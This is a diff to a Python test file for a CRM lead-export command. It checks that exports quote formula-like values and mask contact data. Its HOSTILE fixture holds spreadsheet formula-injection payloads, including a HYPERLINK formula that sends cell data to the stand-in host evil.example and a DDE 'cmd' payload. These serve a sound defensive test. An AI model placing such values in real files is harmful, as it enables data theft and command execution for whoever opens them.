@@ -4,6 +4,7 @@ error file, the duplicate check on every row, idempotent re-runs; masked, waterm
 from __future__ import annotations
 
 import csv
+from datetime import UTC, datetime
 from pathlib import Path
 
 import pytest
@@ -13,7 +14,7 @@ from sqlmodel import Session, col, select
 from bot.cli import main
 from bot.leads.rules import RulesError, parse_rule_text
 from store.db import session_scope
-from store.models import Customer, LeadAssignment, LeadTouch, OutboxMessage
+from store.models import Customer, FollowUp, LeadAssignment, LeadTouch, OutboxMessage
 from tests.factories import T0, make_org
 from tests.test_leads_support import RULES
 
@@ -143,11 +144,73 @@ def test_export_masks_phones_and_names_who_exported(cli, engine, tmp_path, capsy
     rows = list(load_workbook(path).active.iter_rows(values_only=True))
     assert rows[0][0].startswith("导出人：陈主管（一组） 导出时间：") and "手机号已脱敏" in rows[0][0]
     assert rows[1][:5] == ("编号", "姓名", "公司", "职位", "电话")
-    assert rows[2][1] == "孙丽" and rows[2][4] == "+86139****0009" and rows[2][6] == "李明"
+    # A value starting with + is a formula to a spreadsheet: quoted (test_export_neutralises_formulas).
+    assert rows[2][1] == "孙丽" and rows[2][4] == "'+86139****0009" and rows[2][6] == "李明"
     assert main(["export", str(path), "--as", "陈主管", "--unmask"]) == 0
     rows = list(load_workbook(path).active.iter_rows(values_only=True))
-    assert rows[2][4] == "+8613912340009" and "含完整手机号" in rows[0][0]
+    assert rows[2][4] == "'+8613912340009" and "含完整手机号" in rows[0][0]
     assert main(["export", str(path), "--as", "王芳"]) == 2
+
+
+HOSTILE = {  # what a marketing form or an imported sheet can put in a lead's fields
+    "name": '=HYPERLINK("http://evil.example/?d="&A1,"点我")',
+    "company": "@SUM(1+1)",
+    "title": "-2+3+cmd|' /C calc'!A0",
+    "region": "\t=1+1",
+    "industry": "\r+1",
+}
+
+
+def export_table(path: Path) -> list[list[object]]:
+    if path.suffix == ".csv":
+        with path.open(encoding="utf-8-sig", newline="") as fh:
+            return [list(row) for row in csv.reader(fh)]
+    book = load_workbook(path)
+    cells = [cell for row in book.active.iter_rows() for cell in row]
+    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]  # not one formula cell
+    return [list(row) for row in book.active.iter_rows(values_only=True)]
+
+
+@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
+def test_export_neutralises_formulas_and_has_amount_and_next_contact(cli, engine, tmp_path, suffix):
+    with session_scope(engine) as s:
+        hostile = Customer(**HOSTILE, phone="+8613912345678", email="zhang.wei@example.cn", team_id=cli.rep_a.team_id,
+                           owner_id=cli.rep_a.id, next_contact_at=datetime(2026, 11, 26, 7, 0, tzinfo=UTC),
+                           created_at=T0)
+        s.add(hostile)
+        s.flush()
+        for day, amount in ((1, 100_000), (2, 430_000), (3, None)):  # the newest amount named counts
+            s.add(FollowUp(customer_id=hostile.id, rep_id=cli.rep_a.id, text="报价", amount_cny=amount,
+                           created_at=datetime(2026, 11, day, tzinfo=UTC)))
+    path = tmp_path / f"customers{suffix}"
+    assert main(["export", str(path), "--as", "陈主管"]) == 0
+    rows = export_table(path)
+    header = rows[1]
+    row = next(r for r in rows[2:] if str(r[header.index("姓名")]).startswith("'=HYPERLINK"))
+    got = dict(zip(header, row, strict=True))
+    for field, label in (("name", "姓名"), ("company", "公司"), ("title", "职位"), ("region", "区域"),
+                         ("industry", "行业")):
+        quoted = "'" + HOSTILE[field]  # a spreadsheet shows it as text (xlsx reads a stored \r back as \n)
+        assert got[label] in (quoted, quoted.replace("\r", "\n")), label
+    assert got["电话"] == "'+86139****5678" and got["邮箱"] == "z***@example.cn"
+    assert str(got["金额（元）"]) == "430000"
+    assert got["下次联系"] == "2026-11-26 15:00"  # Asia/Shanghai
+    sun = next(r for r in rows[2:] if r[1] == "孙丽")
+    assert sun[header.index("金额（元）")] in (None, "") and sun[header.index("下次联系")] in (None, "")
+
+
+def test_masked_export_masks_contact_data_in_every_column(cli, engine, tmp_path):
+    """A customer filed before names were checked may be named after its phone or e-mail: masked too."""
+    with session_scope(engine) as s:
+        s.add(Customer(name="13712345678", company="联系 li@example.cn", email="li@example.cn", phone="+8613712345678",
+                       team_id=cli.rep_a.team_id, owner_id=cli.rep_a.id, created_at=T0))
+    path = tmp_path / "customers.csv"
+    assert main(["export", str(path), "--as", "陈主管"]) == 0
+    text = path.read_text(encoding="utf-8-sig")
+    assert "13712345678" not in text and "li@example.cn" not in text
+    assert "+86137****5678,联系 l***@example.cn" in text.replace("'", "")
+    assert main(["export", str(path), "--as", "陈主管", "--unmask"]) == 0
+    assert "13712345678" in path.read_text(encoding="utf-8-sig")
 
 
 def test_rules_check_and_explain(cli, engine, tmp_path, capsys):
